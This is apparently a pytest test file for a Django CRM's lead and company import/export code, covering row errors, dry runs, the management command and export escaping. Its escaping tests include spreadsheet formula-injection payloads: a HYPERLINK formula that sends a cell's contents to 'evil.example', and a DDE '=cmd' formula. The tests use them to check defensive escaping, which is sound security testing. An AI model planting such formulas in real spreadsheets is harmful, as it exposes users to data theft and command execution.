"""Importing and exporting leads and companies: `leads.importing`, `manage.py import_leads`, and the
resources the admin's import/export uses (`LeadResource`, `CompanyResource`).

Decision under test: a file with bad rows imports its good rows, lists every bad row with its
number and problems, and the command exits non-zero.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
import tablib
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import timezone
from import_export.formats.base_formats import CSV, XLSX

from leads.importing import LeadImportError, leads_import
from leads.models import Company, Lead, LeadEvent, LeadEventKind, LeadSource, LeadStatus
from leads.resources import (
    CompanyResource,
    LeadResource,
    spreadsheet_safe,
    spreadsheet_unescape,
)
from leads.tests.factories import CompanyFactory, Fortune500CompanyFactory, LeadFactory, UserFactory
from leads.tests.import_files import kinds, write_csv

pytestmark = pytest.mark.django_db

HEADER = ["email", "first_name", "last_name", "job_title", "company", "status", "owner"]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def run_command(*args: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("import_leads", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


# --- New leads ----------------------------------------------------------------------------------


def test_new_leads_are_linked_scored_and_on_the_timeline(tmp_path):
    jpm = Fortune500CompanyFactory()
    path = write_csv(
        tmp_path / "leads.csv",
        HEADER,
        ["Jane.Doe@JPMorganChase.com", "Jane", "Doe", "CISO", "JPMorgan", "", ""],
        ["erik@new-corp-industries.com", "Erik", "Berg", "IT Manager", "New Corp Inc", "", ""],
        ["bob@gmail.com", "Bob", "Smith", "Student", "", "", ""],
    )

    summary = leads_import(path=path)

    assert (summary.total, summary.new, summary.updated, summary.skipped, summary.errors) == (3, 3, 0, 0, [])
    jane = Lead.objects.get(email__iexact="jane.doe@jpmorganchase.com")
    assert jane.email == "Jane.Doe@jpmorganchase.com"  # normalised like the API: domain lower-cased
    assert jane.company == jpm and jane.is_fortune_500
    assert jane.source == LeadSource.IMPORT and jane.status == LeadStatus.NEW
    assert jane.score == 60 and jane.scored_at is not None  # rank 11 (30) + C-level (20) + security (10)
    assert jane.score_breakdown["total"] == 60 and jane.estimated_deal_value
    assert kinds(jane) == [LeadEventKind.IMPORTED, LeadEventKind.COMPANY_MATCHED, LeadEventKind.SCORED]
    imported = jane.events.get(kind=LeadEventKind.IMPORTED)
    assert (
        imported.actor_label == "import"
        and imported.data["row"] == 1
        and imported.data["file"] == "leads.csv"
    )
    assert "leads.csv, row 1" in imported.summary

    erik = Lead.objects.get(email="erik@new-corp-industries.com")
    assert erik.company.domain == "new-corp-industries.com" and erik.company.name == "New Corp Inc"
    bob = Lead.objects.get(email="bob@gmail.com")
    assert bob.company is None and kinds(bob) == [LeadEventKind.IMPORTED, LeadEventKind.SCORED]


def test_owner_option_and_owner_column(tmp_path, sales_rep, other_rep):
    path = write_csv(
        tmp_path / "leads.csv",
        HEADER,
        ["a@corp-a.example", "A", "", "", "", "", ""],
        ["b@corp-b.example", "B", "", "", "", "contacted", "rep2"],
    )
    summary = leads_import(path=path, owner=sales_rep)
    assert summary.new == 2
    assert Lead.objects.get(email="a@corp-a.example").owner == sales_rep
    b = Lead.objects.get(email="b@corp-b.example")
    assert b.owner == other_rep and b.status == LeadStatus.CONTACTED
    assert "owner rep2, status Contacted" in b.events.get(kind=LeadEventKind.IMPORTED).summary


def test_new_lead_duplicates_are_flagged(tmp_path):
    older = LeadFactory(email="jane.doe@gmail.com", phone="+1 212 555 0100")
    path = write_csv(
        tmp_path / "leads.csv",
        ["email", "first_name", "phone"],
        ["janedoe+events@googlemail.com", "Jane", ""],
        ["someone@other.example", "Sam", "(212) 555-0100"],
    )
    assert leads_import(path=path).new == 2
    for email in ("janedoe+events@googlemail.com", "someone@other.example"):
        flag = LeadEvent.objects.get(lead__email=email, data__possible_duplicate=True)
        assert flag.data["duplicate_of"] == str(older.pk) and flag.actor_label == "import"


def test_a_lead_that_would_be_hot_is_rescored_like_a_website_lead(
    tmp_path, settings, django_capture_on_commit_callbacks
):
    settings.LEAD_SCORING = {"hot_threshold": 50}
    Fortune500CompanyFactory()
    path = write_csv(tmp_path / "leads.csv", HEADER, ["ciso@jpmorganchase.com", "C", "", "CISO", "", "", ""])
    with django_capture_on_commit_callbacks(execute=True):
        leads_import(path=path)
    lead = Lead.objects.get(email="ciso@jpmorganchase.com")
    assert lead.score == 60 and lead.status == LeadStatus.QUALIFIED  # via lead_rescore
    assert set(kinds(lead)) >= {LeadEventKind.SCORED, LeadEventKind.STATUS_CHANGED, LeadEventKind.IMPORTED}


# --- Updates by e-mail --------------------------------------------------------------------------


def test_update_by_email_ignores_case_and_never_duplicates(tmp_path):
    lead = LeadFactory(email="Jane@acme.example", first_name="Jane", job_title="Engineer", phone="555 0100")
    path = write_csv(
        tmp_path / "leads.csv",
        ["email", "first_name", "job_title", "phone"],
        ["JANE@ACME.example", "", "Director of Security", ""],
    )

    kept = leads_import(path=path)  # by default a re-import keeps the title the lead has
    assert (kept.new, kept.updated, kept.skipped) == (0, 0, 1)
    summary = leads_import(path=path, overwrite="job_title")  # unless the importer chooses so

    assert (summary.new, summary.updated, summary.errors) == (0, 1, [])
    assert Lead.objects.count() == 1
    lead.refresh_from_db()
    assert lead.job_title == "Director of Security"
    assert (lead.first_name, lead.phone, lead.email) == (
        "Jane",
        "555 0100",
        "Jane@acme.example",
    )  # blanks keep
    updated = lead.events.get(kind=LeadEventKind.UPDATED)
    assert updated.data["changes"] == {"job_title": ["Engineer", "Director of Security"]}

    again = leads_import(path=path, overwrite="job_title")  # the same file again: nothing to change
    assert (again.new, again.updated, again.skipped) == (0, 0, 1)
    assert lead.events.filter(kind=LeadEventKind.UPDATED).count() == 1


def test_status_owner_and_follow_up_changes_go_through_the_services(tmp_path, sales_rep):
    lead = LeadFactory(email="pat@acme.example", status=LeadStatus.QUALIFIED)
    path = write_csv(
        tmp_path / "leads.csv",
        ["email", "status", "owner", "next_follow_up_at"],
        ["pat@acme.example", "Contacted", "rep", "2031-05-04"],
    )
    assert leads_import(path=path).updated == 1
    lead.refresh_from_db()
    assert lead.status == LeadStatus.CONTACTED and lead.last_contacted_at is not None
    assert lead.owner == sales_rep
    assert timezone.localtime(lead.next_follow_up_at).strftime("%Y-%m-%d %H:%M") == "2031-05-04 09:00"
    assert set(kinds(lead)) == {
        LeadEventKind.STATUS_CHANGED,
        LeadEventKind.ASSIGNED,
        LeadEventKind.FOLLOW_UP_SCHEDULED,
    }


def test_closed_lost_needs_a_reason(tmp_path):
    LeadFactory(email="gone@acme.example")
    path = write_csv(
        tmp_path / "leads.csv",
        ["email", "status", "lost_reason"],
        ["gone@acme.example", "closed_lost", ""],
        ["new@acme.example", "closed lost", "Chose a competitor"],
    )
    summary = leads_import(path=path)
    assert summary.errors == [(1, "lost_reason: Say why the deal was lost (closed_lost needs it).")]
    assert Lead.objects.get(email="gone@acme.example").status == LeadStatus.NEW
    assert Lead.objects.get(email="new@acme.example").lost_reason == "Chose a competitor"


# --- Bad rows -----------------------------------------------------------------------------------


def test_bad_rows_are_reported_by_number_and_good_rows_imported(tmp_path):
    path = write_csv(
        tmp_path / "leads.csv",
        HEADER,
        ["good1@acme.example", "Good", "", "", "", "", ""],
        ["not-an-email", "Bad", "", "", "", "", ""],
        ["x@acme.example", "", "", "", "", "won-ish", ""],
        ["y@acme.example", "", "", "", "", "", "nobody"],
        ["z@acme.example", "N" * 101, "", "", "", "", ""],
        ["GOOD1@acme.example", "Again", "", "", "", "", ""],
        ["", "", "", "", "", "", ""],  # a blank row is not a row
        ["w@acme.example", "Two", "", "", "", "bogus", "nobody"],
        ["good2@acme.example", "Good", "", "", "", "", ""],
    )

    summary = leads_import(path=path)

    assert (summary.total, summary.new, summary.error_rows) == (8, 2, 6)
    errors = dict(summary.errors)
    assert list(errors) == [2, 3, 4, 5, 6, 8]
    assert "'not-an-email' is not a valid e-mail address" in errors[2]
    assert errors[3].startswith("status: Unknown status 'won-ish'; one of: new, qualified")
    assert errors[4] == "owner: No active staff user 'nobody'."
    assert errors[5] == "first_name: 101 characters; at most 100 fit."
    assert errors[6] == "email: GOOD1@acme.example is already in row 1 of this file."
    assert "status: Unknown status 'bogus'" in errors[8] and "owner: No active staff user" in errors[8]
    assert summary.lines[8] == 9  # the blank row counts as a row (and line) of the file
    assert set(Lead.objects.values_list("email", flat=True)) == {"good1@acme.example", "good2@acme.example"}


def test_dry_run_changes_nothing_and_counts_like_a_real_run(tmp_path):
    LeadFactory(email="known@acme.example", job_title="Engineer")
    path = write_csv(
        tmp_path / "leads.csv",
        HEADER,
        ["known@acme.example", "", "", "CTO", "", "", ""],
        ["new@fresh-company.example", "New", "", "", "", "", ""],
        ["bad", "", "", "", "", "", ""],
    )
    before = (Lead.objects.count(), Company.objects.count(), LeadEvent.objects.count())

    dry = leads_import(path=path, dry_run=True, overwrite=["job_title"])

    assert (Lead.objects.count(), Company.objects.count(), LeadEvent.objects.count()) == before
    assert Lead.objects.get(email="known@acme.example").job_title == "Engineer"
    real = leads_import(path=path, overwrite=["job_title"])
    assert (dry.new, dry.updated, dry.skipped, dry.errors) == (
        real.new,
        real.updated,
        real.skipped,
        real.errors,
    )
    assert (real.new, real.updated, len(real.errors)) == (1, 1, 1)


def test_small_chunks_give_the_same_result(tmp_path):
    rows = [[f"p{n}@corp{n % 3}-widgets.com", f"P{n}", "", "", "", "", ""] for n in range(7)]
    rows.insert(3, ["broken", "", "", "", "", "", ""])
    rows.append(["P1@corp1-widgets.com", "", "", "", "", "", ""])  # same as row 2, in a later chunk
    path = write_csv(tmp_path / "leads.csv", HEADER, *rows)
    summary = leads_import(path=path, chunk_rows=3)
    assert (summary.new, [row for row, _ in summary.errors]) == (7, [4, 9])
    assert "already in row 2" in summary.errors[1][1]
    assert Company.objects.count() == 3


def test_rep_may_change_only_own_and_unassigned_leads(sales_rep, other_rep):
    LeadFactory(email="theirs@acme.example", owner=other_rep)
    LeadFactory(email="free@acme.example", owner=None)
    dataset = tablib.Dataset(
        ["theirs@acme.example", "New title", ""],
        ["free@acme.example", "New title", "rep"],
        ["mine@acme.example", "", "rep2"],
        headers=["email", "job_title", "owner"],
    )
    result = LeadResource(user=sales_rep).import_data(dataset, dry_run=False, file_name="x.csv")
    errors = {row.number: row.error_dict for row in result.invalid_rows}
    assert errors == {
        1: {"email": ["A lead with this e-mail exists and belongs to another rep."]},
        3: {"owner": ["Only sales managers can assign leads to someone else."]},
    }
    assert Lead.objects.get(email="theirs@acme.example").job_title == "Security Engineer"
    free = Lead.objects.get(email="free@acme.example")
    assert free.owner == sales_rep and free.events.get(kind=LeadEventKind.ASSIGNED).actor == sales_rep


def test_admin_style_preview_is_rolled_back_and_shows_rows(sales_manager):
    """What the admin's import does first: a dry run with diffs, the user passed as a kwarg."""
    dataset = tablib.Dataset(["ann@acme.example", "Ann"], headers=["Email", "First_Name"])
    result = LeadResource().import_data(
        dataset,
        dry_run=True,
        raise_errors=False,
        file_name="upload.csv",
        user=sales_manager,
        retain_instance_in_row_result=True,
    )
    assert not result.has_errors() and not result.has_validation_errors()
    assert result.totals["new"] == 1 and result.rows[0].diff  # the preview has something to show
    assert not Lead.objects.exists()
    LeadResource().import_data(dataset, dry_run=False, file_name="upload.csv", user=sales_manager)
    imported = LeadEvent.objects.get(kind=LeadEventKind.IMPORTED)
    assert imported.actor == sales_manager and "upload.csv, row 1" in imported.summary


def test_unknown_columns_are_named_and_ignored_not_fatal(tmp_path):
    """Before: one unknown column refused the whole file (a base error in the admin)."""
    dataset = tablib.Dataset(["ann@acme.example", "Ann", "x"], headers=["email", "firstname", "first_name"])
    result = LeadResource(preview=True).import_data(dataset, dry_run=True)
    assert not result.has_errors() and result.totals["new"] == 1
    assert result.unknown_columns == ["firstname"]

    path = write_csv(tmp_path / "x.csv", ["email", "firstname", "Notes"], ["bo@acme.example", "Bo", "n"])
    out, err = run_command(str(path))
    assert "new:     1" in out and "ignored unknown column(s): firstname, notes" in err
    assert Lead.objects.get(email="bo@acme.example").first_name == ""


# --- The command ----------------------------------------------------------------------------------


def test_command_summary_and_exit_status(tmp_path):
    good = write_csv(tmp_path / "good.csv", HEADER, ["a@acme.example", "A", "", "", "", "", ""])
    out, err = run_command(str(good))
    assert "1 rows" in out and "new:     1" in out and "Done." in out and err == ""

    bad = write_csv(
        tmp_path / "bad.csv",
        HEADER,
        ["a@acme.example", "Changed", "", "", "", "", ""],
        ["b@", "", "", "", "", "", ""],
    )
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(CommandError) as caught:
        call_command("import_leads", str(bad), "--overwrite", "first_name", stdout=out, stderr=err)
    assert caught.value.returncode == 1
    assert "1 row(s) of" in str(caught.value)
    assert "updated: 1" in out.getvalue() and "errors:  1" in out.getvalue()
    assert "row 2 (line 3): email: 'b@' is not a valid e-mail address" in err.getvalue()
    assert Lead.objects.get(email="a@acme.example").first_name == "Changed"


def test_command_dry_run_and_progress_lines_when_not_a_terminal(tmp_path):
    rows = [[f"p{n}@acme.example", "", "", "", "", "", ""] for n in range(25)]
    path = write_csv(tmp_path / "leads.csv", HEADER, *rows)
    out, _ = run_command(str(path), "--dry-run")
    assert "(dry run: nothing saved)" in out and "new:     25" in out
    assert "25/25 rows (100%)" in out
    assert not Lead.objects.exists()


@pytest.mark.parametrize(
    ("make", "args", "message"),
    [
        (lambda p: p / "missing.csv", [], "No such file"),
        (lambda p: write_csv(p / "x.csv", ["e-mail", "name"]), [], "no 'email' column"),
        (
            lambda p: write_csv(p / "x.csv", ["email"]),
            ["--overwrite", "utm_source"],
            "Cannot overwrite utm_source",
        ),
        (lambda p: write_csv(p / "x.csv", ["email"]), ["--owner", "ghost"], "no such user"),
        (
            lambda p: (p / "x.csv").write_bytes(b"email\n\xff\xfe\n") and p / "x.csv",
            [],
            "not a readable UTF-8",
        ),
        (lambda p: (p / "x.csv").write_text("") or p / "x.csv", [], "is empty"),
    ],
)
def test_command_refuses_unusable_input_clearly(tmp_path, make, args, message):
    path = make(tmp_path)
    with pytest.raises(CommandError, match=message.replace("(", r"\(").replace(")", r"\)")):
        run_command(str(path), *args)


def test_command_refuses_an_owner_who_is_not_active_staff(tmp_path):
    UserFactory(username="former", is_active=False)
    path = write_csv(tmp_path / "x.csv", ["email"], ["a@acme.example"])
    with pytest.raises(CommandError, match="not an active staff user"):
        run_command(str(path), "--owner", "former")


def test_rows_with_too_many_cells_are_errors(tmp_path):
    path = tmp_path / "x.csv"
    path.write_text("email,first_name\na@acme.example,A\nb@acme.example,B,extra\n", encoding="utf-8")
    summary = leads_import(path=path)
    assert summary.new == 1 and summary.errors == [(2, "The row has 3 cells but the header only 2 columns.")]


def test_service_refuses_unknown_format(tmp_path):
    with pytest.raises(LeadImportError, match="Unknown format"):
        leads_import(path=tmp_path / "x.ods", fmt="ods")


# --- Export -----------------------------------------------------------------------------------------


def test_spreadsheet_escaping_round_trips():
    for text in (EVIL, "+1 555 0100", "-5", "@SUM(A1)", "\tx", "==1"):
        assert spreadsheet_safe(text).startswith("'")
        assert spreadsheet_unescape(spreadsheet_safe(text)) == text
    assert spreadsheet_safe("Jane") == "Jane" and spreadsheet_safe(5) == 5


def test_csv_export_escapes_formulae_and_imports_back_unchanged(tmp_path, sales_manager):
    lead = LeadFactory(email="evil@acme.example", first_name=EVIL, phone="+1 212 555 0100")
    data = LeadResource(user=sales_manager).export()
    text = CSV().export_data(data)

    row = next(csv.DictReader(io.StringIO(text)))
    assert row["first_name"] == "'" + EVIL and row["phone"] == "'+1 212 555 0100"
    assert row["company_domain"] == lead.company.domain and row["score"] == "40"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@"))

    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    summary = leads_import(path=path)  # export-only columns are accepted and ignored
    assert (summary.skipped, summary.updated, summary.errors) == (1, 0, [])


def test_xlsx_export_escapes_formulae(sales_manager):
    openpyxl = pytest.importorskip("openpyxl")
    LeadFactory(email="evil@acme.example", first_name=EVIL)
    data = LeadResource(user=sales_manager).export()
    content = XLSX().export_data(data)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("first_name") + 1)
    assert cell.value == "'" + EVIL and cell.data_type == "s"


def test_xlsx_import(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["email", "first_name", "next_follow_up_at", "consent_marketing"])
    sheet.append(["x@acme.example", "X", timezone.now().replace(tzinfo=None) + timedelta(days=2), True])
    path = tmp_path / "leads.xlsx"
    workbook.save(path)
    summary = leads_import(path=path, fmt="xlsx")
    assert summary.new == 1, summary.errors
    lead = Lead.objects.get(email="x@acme.example")
    assert lead.next_follow_up_at and lead.consent_marketing and lead.consent_marketing_at


def test_export_is_scoped_to_the_user_whatever_queryset_is_passed(sales_rep, other_rep, sales_manager):
    LeadFactory(email="mine@acme.example", owner=sales_rep)
    LeadFactory(email="free@acme.example", owner=None)
    LeadFactory(email="theirs@acme.example", owner=other_rep)

    def emails(user):
        return set(LeadResource(user=user).export(queryset=Lead.objects.all())["email"])

    assert emails(sales_rep) == {"mine@acme.example", "free@acme.example"}
    assert emails(other_rep) == {"free@acme.example", "theirs@acme.example"}
    assert len(emails(sales_manager)) == 3


@pytest.mark.parametrize("count", [5, 30])
def test_export_query_count_does_not_grow_with_rows(count, sales_manager, django_assert_max_num_queries):
    jpm = Fortune500CompanyFactory()
    for n in range(count):
        LeadFactory(email=f"p{n}@acme.example", owner=sales_manager, company=jpm if n % 2 else None)
    sales_manager._is_sales_manager = True  # as after the admin's first check in a request
    with django_assert_max_num_queries(1):
        data = LeadResource(user=sales_manager).export(queryset=Lead.objects.all())
    assert len(data) == count


# --- Companies ----------------------------------------------------------------------------------


def company_dataset(*rows: list[object]) -> tablib.Dataset:
    return tablib.Dataset(
        *rows,
        headers=["domain", "name", "industry", "employee_count", "revenue", "fortune_rank", "fortune_year"],
    )


def test_company_import_updates_by_domain_and_reports_bad_rows():
    acme = CompanyFactory(domain="acme-widgets.com", name="Acme", employee_count=100)
    lead = LeadFactory(email="x@acme-widgets.com", company=acme)
    dataset = company_dataset(
        ["ACME-Widgets.com", "", "Manufacturing", "1,200", "", "42", "2025"],
        ["globex-corp.com", "Globex", "", "", "5000000", "", ""],
        ["mail.initech.com", "Initech", "", "", "", "", ""],
        ["gmail.com", "Google Mail", "", "", "", "", ""],
        ["hooli.com", "Hooli", "", "many", "", "900", ""],
        ["umbrella-corp.com", "Umbrella", "", "", "", "7", ""],
        ["newco-labs.com", "", "", "", "", "", ""],
    )
    result = CompanyResource().import_data(dataset, dry_run=False)

    assert (result.totals["new"], result.totals["update"]) == (1, 1)
    errors = {row.number: row.error_dict for row in result.invalid_rows}
    assert errors[3] == {
        "domain": ["'mail.initech.com' is not a registrable domain (did you mean 'initech.com'?)."]
    }
    assert errors[4] == {"domain": ["'gmail.com' is a webmail domain, not a company's."]}
    assert errors[5] == {
        "employee_count": ["'many' is not a whole number."],
        "fortune_rank": ["900 is not between 1 and 500."],
    }
    assert errors[6] == {"fortune_year": ["A Fortune 500 rank needs the year of its list."]}
    assert errors[7] == {"name": ["A new company needs a name."]}
    acme.refresh_from_db()
    assert (acme.name, acme.industry, acme.employee_count, acme.fortune_rank) == (
        "Acme",
        "Manufacturing",
        1200,
        42,
    )
    assert Company.objects.filter(domain="globex-corp.com", annual_revenue=5000000).exists()
    lead.refresh_from_db()
    assert lead.is_fortune_500  # the new rank reached the company's leads

    again = CompanyResource().import_data(company_dataset(["acme-widgets.com", "Acme", "", "", "", "", ""]))
    assert again.totals["skip"] == 1


def test_company_export_counts_leads_in_one_query(django_assert_max_num_queries):
    company = CompanyFactory(domain="acme.example", name="=cmd|' /C calc'!A0")
    LeadFactory.create_batch(2, company=company)
    with django_assert_max_num_queries(1):
        data = CompanyResource().export()
    row = dict(zip(data.headers, data[0], strict=True))
    assert row["lead_count"] == 2 and row["name"].startswith("'=")


@pytest.mark.parametrize("count", [5, 30])
def test_import_queries_do_not_grow_per_row(tmp_path, count, sales_rep, django_assert_max_num_queries):
    """Known leads, companies and owners are fetched once per chunk and rows are written in
    bulk: 30 rows cost what 5 do (a few hundred rows more would add an INSERT batch)."""
    Fortune500CompanyFactory()
    LeadFactory(email="p1@jpmorganchase.com", job_title="Engineer")  # one update
    rows = [
        [
            f"p{n}@{'jpmorganchase.com' if n % 2 else f'corp{n}-widgets.com'}",
            f"P{n}",
            "",
            "CISO",
            "",
            "",
            "rep",
        ]
        for n in range(count)
    ]
    path = write_csv(tmp_path / "leads.csv", HEADER, *rows)
    # 27 on SQLite at 5 and at 30 rows, 6 of them lead_assign's for the one updated lead.
    with django_assert_max_num_queries(30):
        summary = leads_import(path=path)
    assert (summary.new, summary.updated, summary.errors) == (count - 1, 1, [])
